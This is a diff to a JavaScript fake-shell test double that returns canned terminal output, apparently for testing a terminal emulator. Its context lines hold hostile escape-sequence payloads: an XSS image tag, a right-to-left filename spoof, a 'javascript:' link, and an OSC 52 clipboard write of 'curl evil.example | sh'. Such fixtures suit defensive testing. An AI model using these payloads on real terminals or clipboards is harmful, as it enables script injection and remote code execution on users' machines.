@@ -88,6 +88,8 @@ class FakeShell {
             ls: () => LISTING.join('\r\n'),
             count: () => Array.from({ length: Number(rest[0] ?? 500) }, (_, at) => `line ${at + 1}`).join('\r\n'),
             cursor: () => '\x1b[?1hcursor keys are the program’s',
+            marked: () => '\x1b[?2004hmarks a paste',
+            wide: () => 'wide:🤖漢⚡e\u0301|',
             title: () => `\x1b]2;${rest.join(' ')}\x07`,
             evil: () => '\x1b]2;<img src=x onerror=alert(1)>\u202egpj.exe\x07\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 \x1b]8;;https://example.org/a\x07here\x1b]8;;\x07 https://example.net/plain',
             osc52: () => `\x1b]52;c;${btoa('curl evil.example | sh')}\x07\x1b]52;c;?\x07`,
